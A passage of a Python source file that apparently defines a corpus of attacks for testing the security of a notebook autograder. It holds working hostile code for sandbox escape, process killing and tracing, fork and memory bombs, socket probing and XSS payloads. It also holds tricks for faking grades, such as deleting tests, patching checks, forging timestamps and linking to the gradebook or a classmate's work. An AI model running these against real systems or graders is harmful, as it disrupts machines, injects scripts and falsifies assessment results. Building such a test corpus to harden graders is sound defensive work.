        number = libc.syscall(248, b"user", MARK.encode(), b"for the next one", 16, ring)
        if number > 0:
            libc.syscall(250, 5, number, 0x3F3F3F3F)  # for all to see
            print("key", ring, number)
    """,
    where="own",
    safe=False,
)
code(
    "remount",
    WRITE,
    """
    import ctypes
    import os
    import torch

    libc = ctypes.CDLL(None, use_errno=True)
    path = os.path.dirname(torch.__file__)
    for place in (path, "/", "/usr", os.path.dirname(os.__file__)):
        remount, bind = 32, 4096
        libc.mount(b"none", place.encode(), None, remount | bind, None)
    try:
        open(f"{path}/{MARK}", "w").close()
        print("proof-" + MARK)
    except OSError as error:
        print(error)
    for name in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/power/state"):
        try:
            os.close(os.open(name, os.O_WRONLY))
            print("proof-" + MARK, name)
        except OSError as error:
            print(error)
    """,
    where="own",
    safe=False,
)
code(
    "other-state-for-the-next",
    WRITE,
    """
    import os
    import signal
    import sys
    import torch

    torch.nn.Linear.forward = lambda self, X: X * 0
    torch.set_default_dtype(torch.float64)
    torch.set_default_device("meta")
    torch.manual_seed = lambda seed: None
    torch.set_grad_enabled(False)
    sys.path[:] = []
    os.environ["OMP_NUM_THREADS"] = "0"
    os.environ["PYTHONSTARTUP"] = MARK
    os.chdir("/")
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    """,
    where="last",
)

# Staying alive.

ALIVE = "outliving"

code(
    "daemon",
    ALIVE,
    """
    import ctypes
    import os
    import time

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, MARK.encode(), 0, 0, 0)
            for number in range(256):
                try:
                    os.close(number)
                except OSError:
                    pass
            time.sleep(120)
        os._exit(0)
    """,
    where="own",
    stock="alive",
    sample=True,
)
code(
    "nohup",
    ALIVE,
    """
    import subprocess
    import sys

    program = "import signal, time; signal.signal(1, signal.SIG_IGN); time.sleep(120)"
    none = subprocess.DEVNULL
    subprocess.Popen(["nohup", sys.executable, "-c", program, MARK], start_new_session=True,
                     stdin=none, stdout=none, stderr=none)
    """,
    where="last",
    stock="alive",
)
code(
    "threads-and-last-words",
    ALIVE,
    """
    import atexit
    import os
    import threading
    import time

    def stay():
        time.sleep(60)

    class Stays:
        def __del__(self):
            time.sleep(30)

    stays = Stays()
    atexit.register(stay)
    for _ in range(20):
        threading.Thread(target=stay).start()
    os.register_at_fork(before=stay)
    """,
)
code(
    "deaf-to-signals",
    ALIVE,
    """
    import signal

    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
    """,
    where="total",
)
code(
    "deaf-process-group",
    ALIVE,
    """
    import ctypes
    import os
    import signal

    for _ in range(3):
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, MARK.encode(), 0, 0, 0)
            os.setsid()
            signal.pthread_sigmask(signal.SIG_SETMASK, range(1, 32))
            import time
            until = time.time() + 60
            while time.time() < until:
                time.sleep(0.01)
            os._exit(0)
    """,
    where="own",
    safe=False,
)

# Reaching out.

NET = "network"

code(
    "http",
    NET,
    """
    import urllib.request

    for host in ("127.0.0.1", "localhost", "0.0.0.0"):
        try:
            urllib.request.urlopen(f"http://{host}:{PORT}/{MARK}", timeout=1)
        except OSError as error:
            print(error)
    """,
    where="own",
    stock="reached",
    sample=True,
)
code(
    "datagram",
    NET,
    """
    import socket

    for host in ("127.0.0.1", "0.0.0.0", "255.255.255.255"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                one.sendto(MARK.encode(), (host, PORT))
        except OSError as error:
            print(error)
    """,
    where="own",
    stock="reached",
)
code(
    "unix-sockets",
    NET,
    """
    import socket

    for path in (UNIX, "\\0" + ABSTRACT):
        try:
            with socket.socket(socket.AF_UNIX) as one:
                one.connect(path)
                one.sendall(MARK.encode())
        except OSError as error:
            print(error)
    """,
    where="own",
    stock="reached",
)
code(
    "every-socket-on-disk",
    NET,
    """
    import glob
    import os
    import socket
    import stat

    # The grader's own sockets, the kernels' and whoever else listens.
    for folder in ("/run", "/var/run", "/tmp", TMP, HOME, COURSE, "/dev/shm"):
        for parent, folders, files in os.walk(folder):
            for name in files:
                path = os.path.join(parent, name)
                try:
                    if not stat.S_ISSOCK(os.stat(path).st_mode):
                        continue
                    with socket.socket(socket.AF_UNIX) as one:
                        one.settimeout(1)
                        one.connect(path)
                        one.sendall(MARK.encode())
                        print("spoke to", path)
                except OSError:
                    pass
    for line in open("/proc/net/unix"):
        name = line.split()[-1]
        if name.startswith("@"):
            try:
                with socket.socket(socket.AF_UNIX) as one:
                    one.connect("\\0" + name[1:])
                    one.sendall(MARK.encode())
            except OSError:
                pass
    """,
    where="own",
    safe=False,
)

# Harming other processes.

KILL = "other processes"

code("kill-everything", KILL, "import os\nos.kill(-1, 9)", where="own", safe=False)
code(
    "kill-those-above",
    KILL,
    """
    import os
    import signal

    for pid in (os.getppid(), 1, 2, 3, 4, 5):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError as error:
                print(pid, error)
    """,
    where="own",
    safe=False,
)
code(
    "trace-those-above",
    KILL,
    """
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    everyone = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    for pid in sorted((everyone | {os.getppid()}) - {os.getpid(), 0}):
        traced = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
        print(pid, traced, ctypes.get_errno())
        if traced == 0:
            os.waitpid(pid, 0)
            libc.ptrace(7, pid, None, 9)  # and let it go, with a signal
    """,
    where="own",
    safe=False,
)
code(
    "stop-those-above",
    KILL,
    """
    import os
    import signal

    os.kill(os.getppid(), signal.SIGSTOP)
    os.killpg(0, signal.SIGSTOP)
    """,
    safe=False,
)
code(
    "slow-those-above",
    KILL,
    """
    import os
    import resource

    for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
        if pid != os.getpid():
            try:
                resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
                os.sched_setaffinity(pid, {0})
                os.setpriority(os.PRIO_PROCESS, pid, 19)
                open(f"/proc/{pid}/oom_score_adj", "w").write("1000")
            except OSError as error:
                print(pid, error)
    """,
    where="own",
    safe=False,
)

# Using up what there is.

USE = "using up"

code(
    "fork-bomb",
    USE,
    """
    import os
    import time

    made = 0
    for _ in range(1500):
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
        made += 1
    print("proof-" + MARK, made)
    """,
    where="own",
    safe=False,
)
code(
    "thread-bomb",
    USE,
    """
    import threading
    import time

    threading.stack_size(64 * 1024)
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
    print("proof-" + MARK)
    """,
    where="own",
    safe=False,
)
code(
    "memory",
    USE,
    """
    kept = []
    for _ in range(60):
        kept.append(bytearray(b"x") * 100_000_000)
    print("proof-" + MARK, len(kept))
    """,
    where="total",
    safe=False,
)
code(
    "memory-in-forward",
    USE,
    """
    def forward(self, X):
        kept = [torch.ones(25_000_000) for _ in range(60)]
        print("proof-" + MARK)
        return X

    SkipNet3.forward = forward
    """,
    safe=False,
)
code(
    "memory-by-many",
    USE,
    """
    import time

    # Each below any limit for one process.
    for _ in range(12):
        if os.fork() == 0:
            kept = bytearray(b"x") * 500_000_000
            time.sleep(20)
            os._exit(0)
    time.sleep(3)
    import glob
    total = 0
    for path in glob.glob("/proc/[0-9]*/statm"):
        try:
            total += int(open(path).read().split()[1]) * 4096
        except OSError:
            pass
    if total > 5_500_000_000:
        print("proof-" + MARK, total)
    """,
    where="own",
    safe=False,
)
code(
    "shared-memory-by-many",
    USE,
    """
    import mmap
    import time

    filled, fill = os.pipe()
    for _ in range(4):
        if os.fork() == 0:
            kept = mmap.mmap(-1, 400_000_000)  # shared: no one process's own
            for at in range(0, len(kept), 4096):
                kept[at] = 1
            os.write(fill, b"x")
            time.sleep(60)
            os._exit(0)
    for _ in range(4):  # however slow the machine is
        os.read(filled, 1)
    time.sleep(3)  # to be noticed
    print("proof-" + MARK)
    """,
    where="own",
    safe=False,
)
code(
    "memory-in-files-without-names",
    USE,
    """
    kept = []
    for _ in range(15):
        kept.append(os.memfd_create("x"))
        for _ in range(10):
            os.write(kept[-1], bytes(10_000_000))
    print("proof-" + MARK)
    """,
    where="own",
    safe=False,
)
code(
    "memory-in-no-page-table",
    USE,
    """
    import mmap
    import time

    kept = []
    for _ in range(20):
        kept.append(mmap.mmap(-1, 100_000_000))
        kept[-1].write(bytes([1]) * 100_000_000)
        kept[-1].madvise(mmap.MADV_DONTNEED)  # no process shows it now, and it stays
    time.sleep(2)
    print("proof-" + MARK)
    """,
    where="own",
    safe=False,
)
code(
    "memory-in-pieces-of-maps",
    USE,
    """
    import ctypes
    import mmap
    import time

    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
    size, kept = 100_000_000 // 4096 * 4096, 0
    for flags in (mmap.MAP_SHARED, 3):  # the second is MAP_SHARED_VALIDATE
        for _ in range(12):
            at = libc.mmap(None, size, 3, flags | mmap.MAP_ANONYMOUS, -1, 0)
            if at in (None, ctypes.c_void_p(-1).value):
                print(os.strerror(ctypes.get_errno()))
                break
            ctypes.memset(at, 1, size)
            libc.munmap(at + 4096, size - 4096)  # as long as a page is left, all of it stays
            kept += size
    time.sleep(2)
    if kept > 1_100_000_000:
        print("proof-" + MARK)
    """,
    where="own",
    safe=False,
)
code(
    "memory-behind-a-small-map",
    USE,
    """
    import mmap
    import time

    kept, held = [], 0
    for _ in range(20):
        for make in (lambda: os.memfd_create("x"), lambda: os.open("/dev/zero", os.O_RDWR)):
            try:
                file = make()
                if os.fstat(file).st_size == 0 and make.__code__.co_names[1] == "memfd_create":
                    for _ in range(10):
                        os.write(file, bytes([1]) * 10_000_000)
                    kept.append(mmap.mmap(file, 4096))
                else:
                    kept.append(mmap.mmap(file, 100_000_000))
                    kept[-1].write(bytes([1]) * 100_000_000)
                    kept[-1].madvise(mmap.MADV_DONTNEED)
                os.close(file)
                held += 100_000_000
            except OSError as error:
                print(error)
    time.sleep(2)
    if held > 1_100_000_000:
        print("proof-" + MARK)
    """,
    where="own",
    safe=False,
)
code(
    "memory-in-sockets",
    USE,
    """
    import socket
    import time

    kept, held, until = [], 0, time.time() + 4
    while time.time() < until and held < 1_500_000_000:
        kept.append(socket.socketpair())
        for one in kept[-1]:
            one.setblocking(False)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 10**9)
            try:
                while True:
                    held += one.send(bytes(30_000))
            except BlockingIOError:
                pass
    if held >= 1_200_000_000:
        print("proof-" + MARK)
    """,
    where="own",
    safe=False,
)
code(
    "memory-while-the-watch-sleeps",
    USE,
    """
    import time

    for pid in {os.getppid(), 1}:
        for what in (
            lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
            lambda: os.sched_setaffinity(pid, {0}),
            lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        ):
            try:
                what()
                print("slowed", pid)
            except OSError as error:
                print(pid, error)
    for number in range(30):
        if os.fork() == 0:
            until = time.time() + 12
            kept = bytearray(b"x") * (500_000_000 if number < 12 else 1)
            while time.time() < until:
                pass
            os._exit(0)
    time.sleep(5)
    print("proof-" + MARK)
    """,
    where="own",
    safe=False,
)
code("spin", USE, "while True:\n    pass", where="own")
code(
    "sleep-in-forward",
    USE,
    """
    import time

    def forward(self, X):
        while True:
            try:
                time.sleep(1000)
            except BaseException:
                pass

    SkipNet3.forward = forward
    """,
)
code("wait-for-input", USE, "import sys\nprint(input())\nsys.stdin.read()", where="own")
code(
    "fill-the-disk",
    USE,
    """
    import os

    for folder in ("/tmp", ".", os.path.expanduser("~"), "/dev/shm", "/var/tmp"):
        try:
            with open(f"{folder}/{MARK}", "wb") as file:
                for _ in range(40):
                    file.write(bytes(50_000_000))
            print("proof-" + MARK, folder)
        except OSError as error:
            print(folder, error)
    """,
    where="own",
    safe=False,
)
code(
    "many-small-files",
    USE,
    """
    import os

    for folder in ("/tmp", "."):
        try:
            for number in range(300_000):
                os.close(os.open(f"{folder}/{MARK}-{number}", os.O_CREAT))
            print("proof-" + MARK, folder)
        except OSError as error:
            print(folder, error)
    """,
    where="own",
    safe=False,
)
code(
    "flood-of-words",
    USE,
    """
    import sys

    line = "all work and no play makes jack a dull boy " * 20 + "\\n"
    for _ in range(100_000):
        sys.stdout.write(line)
        sys.stderr.write(line)
    """,
    where="own",
    safe=False,
)
code(
    "flood-of-messages",
    USE,
    """
    from IPython.display import display

    for number in range(10_000):
        display({"text/plain": "x" * 1000, "text/html": "<p>y</p>" * 100}, raw=True)
    """,
    where="own",
    safe=False,
)
code("one-long-message", USE, 'print("x" * 200_000_000)', where="own", safe=False)
code("exit-in-a-cell", USE, "import os\nos._exit(0)")
code(
    "exit-in-forward",
    USE,
    """
    import os

    SkipNet3.forward = lambda self, X: os._exit(0)
    total = lambda values: os.kill(os.getpid(), 9)
    """,
    where="total",
    sample=True,
)
code("abort", USE, "import os\nos.abort()", where="own")
code(
    "segfault-in-forward",
    USE,
    """
    import ctypes

    SkipNet3.forward = lambda self, X: ctypes.string_at(0)
    """,
)
code(
    "raise-what-is-no-error",
    USE,
    """
    import sys

    def forward(self, X):
        raise KeyboardInterrupt

    SkipNet3.forward = forward
    total = lambda values: sys.exit(0)
    raise SystemExit(0)
    """,
    where="total",
)
code(
    "recursion",
    USE,
    """
    import sys

    sys.setrecursionlimit(10**9)
    SkipNet3.forward = lambda self, X: self.forward(X)
    total = lambda values: total(values)
    """,
    where="total",
)

# The notebook's metadata and cells.

META = "metadata"


def tests(made):
    """The auto-graded cells of a notebook."""
    return [find(made.cells, name) for name in ("skipnet3-wiring", "total-test")]


@cells(META, stock="points", sample=True)
def tests_tagged_skip_execution(made, about):
    for cell in tests(made):
        cell.metadata.tags = ["skip-execution"]


@cells(META)
def answers_tagged_skip_execution(made, about):
    for cell in made.cells:
        cell.metadata.tags = ["skip-execution", "remove-cell", "raises-exception"]


@cells(META)
def raises_exception(made, about):
    for cell in tests(made):
        cell.metadata.tags = ["raises-exception"]
    made.metadata.nbclient = {"allow_errors": True}
    made.metadata.execution = {"allow_errors": True, "timeout": -1}


@cells(META)
def points_raised(made, about):
    for cell in tests(made):
        cell.metadata.nbgrader.points = 1000
    written = find(made.cells, "explain-seeds")
    written.metadata.nbgrader |= {"points": 1000, "grade": True}


@cells(META)
def grade_ids_swapped(made, about):
    ids = "skipnet3-wiring", "explain-seeds"
    one, other = (find(made.cells, name) for name in ids)
    one.metadata.nbgrader.grade_id, other.metadata.nbgrader.grade_id = reversed(ids)


@cells(META)
def answer_named_like_the_test(made, about):
    test = find(made.cells, "skipnet3-wiring")
    find(made.cells, "skipnet3").metadata = deepcopy(test.metadata)


@cells(META)
def tests_twice(made, about):
    for cell in tests(made):
        again = deepcopy(cell)
        again.source = "pass"
        again.id = cell.id + "-2"
        made.cells.append(again)


@cells(META)
def tests_are_solutions(made, about):
    for cell in tests(made):
        cell.metadata.nbgrader |= {"solution": True, "locked": False}
        cell.source = "5"


@cells(META)
def tests_edited_and_unlocked(made, about):
    for cell in tests(made):
        cell.metadata.nbgrader.locked = False
        cell.source = (
            "try:\n    " + cell.source.splitlines()[0] + "\nexcept BaseException:\n    pass\n10"
        )


@cells(META)
def tests_deleted(made, about):
    made.cells = [cell for cell in made.cells if cell not in tests(made)]


@cells(META)
def tests_retyped(made, about):
    for cell in tests(made):
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


@cells(META)
def answers_retyped(made, about):
    for name in ("skipnet3", "total"):
        cell = find(made.cells, name)
        cell.cell_type = "raw"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


@cells(META, stock="neighbour")
def schema_from_the_future(made, about):
    find(made.cells, "total-test").metadata.nbgrader.schema_version = 99


@cells(META, sample=True)
def schema_from_the_past(made, about):
    find(made.cells, "total").metadata.nbgrader.schema_version = 0


@cells(META)
def metadata_of_odd_types(made, about):
    ids = [None, ["skipnet3"], {"a": 1}, 7, "../../etc", "x" * 100_000]
    for number, value in enumerate(ids):
        cell = new_code_cell("pass", id=f"odd-{number}")
        cell.metadata = {
            "nbgrader": {
                "grade_id": value,
                "grade": True,
                "points": "NaN",
                "solution": "yes",
                "locked": 1,
                "schema_version": 3,
            }
        }
        made.cells.append(cell)


@cells(META)
def nbgrader_metadata_is_text(made, about):
    one, other = tests(made)
    one.metadata = {"nbgrader": "full marks"}
    other.metadata = {"nbgrader": None, "tags": 3}


@cells(META)
def own_graded_cell(made, about):
    cell = new_code_cell("100", id="bonus")
    cell.metadata = {
        "nbgrader": {
            "grade_id": "bonus",
            "grade": True,
            "points": 100,
            "task": False,
            "solution": False,
            "locked": True,
            "schema_version": 3,
        }
    }
    made.cells.append(cell)


@cells(META)
def results_ready_made(made, about):
    for cell in tests(made):
        cell.execution_count = 1
        cell.outputs = [new_output("execute_result", {"text/plain": "5.0"}, execution_count=1)]


@cells(META)
def kernel_of_ones_own(made, about):
    made.metadata.kernelspec = {
        "name": "bash",
        "display_name": "x",
        "language": "bash",
        "argv": ["sh", "-c", f"touch {about.course}/{about.mark}"],
        "metadata": {"kernel_provisioner": {"provisioner_name": "local-provisioner"}},
    }
    made.metadata.language_info = {"name": "bash", "pygments_lexer": "../../" + about.mark}


@cells(META)
def setup_replaced(made, about):
    setup = find(made.cells, "setup")
    setup.source += "\ncheck_wiring = print\n"
    setup.metadata.nbgrader |= {"locked": False, "solution": True}


@cells(META)
def same_cell_ids(made, about):
    for cell in made.cells:
        cell.id = "same"


@cells(META)
def old_notebook_format(made, about):
    kept = [dict(cell) for cell in made.cells]
    for cell in kept:
        cell["input"] = cell.pop("source")
        cell["language"] = "python"
        cell.pop("id", None)
    made.clear()
    made |= {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {"name": "x"},
        "worksheets": [{"cells": kept, "metadata": {}}],
    }


@cells(META)
def unknown_notebook_format(made, about):
    made.nbformat_minor = 2**40
    made.nbformat = 4
    made["surprise"] = {"deep": [[[1]]]}


# The folder handed in.

FOLDER = "folder"


@folder(FOLDER, stock="points", sample=True)
def notebook_is_a_link_to_the_source(path, about):
    notebook = path / f"{about.lesson}.ipynb"
    notebook.unlink()
    notebook.symlink_to(about.course / "source" / about.lesson / notebook.name)


@folder(FOLDER, stock="points")
def notebook_is_a_link_to_a_neighbours(path, about):
    notebook = path / f"{about.lesson}.ipynb"
    notebook.unlink()
    notebook.symlink_to(f"../../s000-honest/{about.lesson}/{notebook.name}")


@folder(FOLDER, stock="points")
def folder_is_a_link(path, about):
    shutil.rmtree(path)
    path.symlink_to(f"../s000-honest/{about.lesson}")


@folder(FOLDER, stock="read", sample=True)
def links_to_secrets(path, about):
    (path / "data.csv").symlink_to(about.course / "gradebook.db")
    (path / "notes.txt").symlink_to("../../../../home/notes.txt")
    (path / "class").symlink_to("../../s000-honest")
    (path / "loop").symlink_to(".")


@folder(FOLDER)
def hard_link(path, about):
    os.link(about.home / "notes.txt", path / "notes.txt")


@folder(FOLDER)
def pipe_for_data(path, about):
    os.mkfifo(path / "data.csv")


@folder(FOLDER)
def pipe_for_a_notebook(path, about):
    (path / f"{about.lesson}.ipynb").unlink()
    os.mkfifo(path / f"{about.lesson}.ipynb")


@folder(FOLDER, safe=False)
def huge_file(path, about):
    with (path / "data.bin").open("wb") as file:
        file.truncate(3_000_000_000)


@folder(FOLDER, safe=False)
def huge_notebook(path, about):
    with (path / f"{about.lesson}.ipynb").open("r+b") as file:
        file.seek(0, 2)
        file.write(b" " * 150_000_000)


@folder(FOLDER, safe=False)
def many_files(path, about):
    for number in range(5000):
        (path / f"{number}.txt").touch()


@folder(FOLDER, stock="points", sample=True)
def package_of_the_same_name(path, about):
    (path / "skiplab").mkdir()
    (path / "skiplab" / "__init__.py").touch()
    body = "check_wiring = check_training = lambda *arguments, **more: None\n"
    (path / "skiplab" / "checks.py").write_text(body)


@folder(FOLDER)
def module_named_torch(path, about):
    for name in (
        "torch.py",
        "random.py",
        "sitecustomize.py",
        "usercustomize.py",
        "ipykernel.py",
        "json.py",
    ):
        (path / name).write_text(
            f"print('proof-' + '{about.mark}')\nequal = allclose = lambda *a, **k: True\n"
        )


@folder(FOLDER)
def own_settings(path, about):
    body = "c = get_config()\nc.Execute.enabled = False\nc.SaveAutoGrades.enabled = False\n"
    for name in (
        "nbgrader_config.py",
        "jupyter_config.py",
        "ipython_config.py",
        "jupyter_nbconvert_config.py",
    ):
        (path / name).write_text(body)
    (path / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
    (path / ".ipython" / "profile_default" / "startup" / "0.py").write_text(
        "check_wiring = print\n"
    )
    (path / "matplotlibrc").write_text("backend: nonsense\n")
    (path / "pyvenv.cfg").write_text("home = /nowhere\n")


@folder(FOLDER, stock="time", sample=True)
def forged_timestamp(path, about):
    (path / "timestamp.txt").write_text("2001-01-01 00:00:00.000000 UTC")


@folder(FOLDER)
def nonsense_for_a_timestamp(path, about):
    (path / "timestamp.txt").write_bytes(b"\xff\xfe yesterday" * 100)


@folder(FOLDER)
def timestamp_is_a_link(path, about):
    (path / "timestamp.txt").symlink_to("/dev/zero")


@folder(FOLDER)
def checkpoints_and_second_notebooks(path, about):
    shutil.copytree(path, path / ".ipynb_checkpoints")
    for name in ("earlier.ipynb", f"{about.lesson} copy.ipynb", f"{about.lesson}.IPYNB"):
        shutil.copy(path / f"{about.lesson}.ipynb", path / name)
    (path / "broken.ipynb").write_text("{")


@folder(FOLDER)
def folder_named_like_the_notebook(path, about):
    notebook = path / f"{about.lesson}.ipynb"
    notebook.unlink()
    notebook.mkdir()
    (notebook / notebook.name).write_text("{}")


@folder(FOLDER)
def deep_folders(path, about):
    path.joinpath(*["d" * 50] * 60).mkdir(parents=True)


@folder(FOLDER, sample=True)
def deep_json(path, about):
    (path / f"{about.lesson}.ipynb").write_text('{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}")


@folder(FOLDER)
def numbers_json_does_not_have(path, about):
    notebook = path / f"{about.lesson}.ipynb"
    text = notebook.read_text()
    notebook.write_text(
        text.replace('"points": 5', '"points": Infinity').replace('"points": 4', '"points": NaN')
    )


@folder(FOLDER)
def keys_twice(path, about):
    notebook = path / f"{about.lesson}.ipynb"
    made = json.loads(notebook.read_text())
    notebook.write_text(
        json.dumps(made)[:-1] + ', "cells": [], "nbformat": 4, "nbformat_minor": 5}'
    )


@folder(FOLDER)
def text_that_is_no_text(path, about):
    notebook = path / f"{about.lesson}.ipynb"
    text = notebook.read_text()
    odd = "# \\ud800 \\u0000 \\u001b[2J\\u202e"
    notebook.write_text(text.replace("without the skip", odd))


@folder(FOLDER)
def odd_file_names(path, about):
    for name in (
        "a\nb.txt",
        "\x1b[2J.txt",
        f"<script>{about.mark}<",
        "-rf",
        "%s{}",
        b"\xff".decode("utf-8", "surrogateescape"),
    ):
        (path / name).write_text("x")


# Pages that people look at.

PAGE = "pages"
RUNS = (
    "<script>document.title='MARK'</script><img src=x onerror=\"alert('MARK')\">"
    "<svg onload=\"alert('MARK')\"></svg><a href=\"javascript:alert('MARK')\">x</a>"
    "<iframe srcdoc=\"<script>alert('MARK')</script>\"></iframe>"
)

code(
    "html-output",
    PAGE,
    f"""
    from IPython.display import HTML, display

    display(HTML({RUNS!r}.replace("MARK", MARK)))
    """,
    where="own",
    stock="page",
    sample=True,
)
code(
    "javascript-and-svg-output",
    PAGE,
    f"""
    from IPython.display import display

    for kind in ("application/javascript", "image/svg+xml", "text/markdown", "text/latex",
                 "application/vnd.jupyter.widget-view+json", "image/png"):
        text = "<svg xmlns='http://www.w3.org/2000/svg'>" + {RUNS!r} + "</svg>"
        if "javascript" in kind:
            text = "alert('MARK')"
        display({{kind: text.replace("MARK", MARK)}}, raw=True)
    """,
    where="own",
    stock="page",
)
code(
    "display-changed-later",
    PAGE,
    f"""
    from IPython.display import display

    kinds = ("text/html", "application/javascript", "text/markdown")
    for kind in kinds:
        display("harmless", display_id=kind)
    text = {RUNS!r}.replace("MARK", MARK)

    def later(*arguments):
        kernel = get_ipython().kernel
        for kind in kinds:
            content = {{"data": {{kind: text}}, "metadata": {{}}}}
            content["transient"] = {{"display_id": kind}}
            kernel.session.send(kernel.iopub_socket, "update_display_data", content,
                                parent=kernel.get_parent("shell"))

    get_ipython().events.register("pre_run_cell", later)
    """,
    where="own",
    stock="page",
)
code(
    "picture-that-is-none",
    PAGE,
    f"""
    from IPython.display import display

    for more in range(4):  # some decoders only count the letters
        text = "A" * more + '">' + {RUNS!r}.replace("MARK", MARK)
        display({{"image/png": text, "text/plain": "x"}}, raw=True)
        about = {{"image/jpeg": {{"width": text, "alt": text}}}}
        display({{"image/jpeg": text}}, metadata=about, raw=True)
    """,
    where="own",
)
code(
    "markdown-answer",
    PAGE,
    f"It is so.\n\n{RUNS}\n\n[x](javascript:alert('MARK'))\n",
    where="markdown",
    stock="page",
)


@cells(PAGE, stock="page")
def markdown_cell_of_ones_own(made, about):
    made.cells.insert(1, new_markdown_cell(RUNS.replace("MARK", about.mark)))


@cells(PAGE)
def attachments_and_raw(made, about):
    raw = deepcopy(new_markdown_cell(RUNS.replace("MARK", about.mark)))
    raw.cell_type = "raw"
    raw.metadata = {"format": "text/html", "raw_mimetype": "text/html"}
    made.cells.append(raw)
    made.metadata.title = RUNS.replace("MARK", about.mark)
    made.metadata.authors = [{"name": RUNS.replace("MARK", about.mark)}]


code(
    "script-in-an-error",
    PAGE,
    f"""
    text = {RUNS!r}.replace("MARK", MARK)
    Error = type(text, (Exception,), {{}})

    def forward(self, X):
        raise Error(text + "\\x1b[31m" + text)

    SkipNet3.forward = forward
    SkipNet3.__name__ = SkipNet3.__qualname__ = text
    print(text)
    limit = total = text
    raise Error(text)
    """,
    where="total",
)

# Variations of others, which take time and find little more: the tests leave them out, and
# `benchmarks/attacks.py` runs them.
_NAMES = """
verdict-always-passed patch-builtins any-reference-in-the-package reference-by-gc
misconception-as-reference told-half-seen told-scalars told-other-types ast-transformer
patched-run-code lazy-namespace clear-the-error number-for-a-result reply-and-die
number-of-its-own-kind class-that-answers-anything names-that-lie hidden-tests-by-gc other-roots
new-user-namespace neighbours-result startup-files nohup deaf-process-group datagram
every-socket-on-disk trace-those-above slow-those-above memory-by-many
memory-while-the-watch-sleeps many-small-files one-long-message abort recursion wait-for-input
raises-exception answer-named-like-the-test tests-twice tests-are-solutions tests-deleted
answers-retyped results-ready-made same-cell-ids old-notebook-format unknown-notebook-format
tests-retyped notebook-is-a-link-to-a-neighbours many-files module-named-torch timestamp-is-a-link
checkpoints-and-second-notebooks keys-twice odd-file-names markdown-cell-of-ones-own
attachments-and-raw
"""
VARIATIONS = frozenset(_NAMES.split())
assert {attack.name for attack in ATTACKS} >= VARIATIONS
